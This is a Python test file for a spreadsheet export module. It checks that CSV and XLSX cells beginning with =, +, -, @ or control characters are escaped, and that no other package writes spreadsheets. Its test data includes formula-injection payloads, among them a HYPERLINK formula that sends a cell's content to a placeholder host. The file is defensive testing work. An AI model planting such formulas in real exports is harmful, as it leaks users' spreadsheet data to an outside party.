"""The one rule against formula injection, and that every CSV/XLSX export goes through it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.tabular import csv_bytes, escape_cell, formula_like, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ["config", "server", "miniprogram_api", "core", "audit", "accounts", "voting", "notices", "complaints",
            "wechat", "photos"]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/?"&A1,"点击")', '\'=HYPERLINK("http://x/?"&A1,"点击")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("1号楼", "1号楼"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (90, "90"),
    ],
)
def test_escape_cell(text: object, cell: str) -> None:
    assert escape_cell(text) == cell


def test_csv_defuses_every_cell_header_included() -> None:
    data = csv_bytes(["=H"], [["=1+1", "ok", None], ["-3", 4, "@x"]])
    assert data.startswith("\ufeff".encode())
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["'=H"],
        ["'=1+1", "ok", ""],
        ["'-3", "4", "'@x"],
    ]


def test_xlsx_writes_text_cells_never_formulas() -> None:
    evil = '=HYPERLINK("http://x","y")'
    data = xlsx_bytes("表" * 40, ["楼栋", "面积"], [[evil, "90.50"], ["1号楼", None], ["bad\x01char", "@x"]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet.title == "表" * 31
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.value for c in cells] == ["楼栋", "面积", evil, "90.50", "1号楼", None, "badchar", "@x"]
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    assert [c.value for c in cells if c.quotePrefix] == [evil, "@x"]
    assert all(formula_like(str(c.value)) == bool(c.quotePrefix) for c in cells if c.value is not None)


def test_no_export_writes_csv_or_xlsx_but_through_core_tabular() -> None:
    """A new export cannot forget the rule: only core/tabular.py may write CSV or build a workbook."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|openpyxl")
    offenders = [
        str(path.relative_to(ROOT))
        for package in PACKAGES
        for path in sorted((ROOT / package).rglob("*.py"))
        if path != ROOT / "core" / "tabular.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
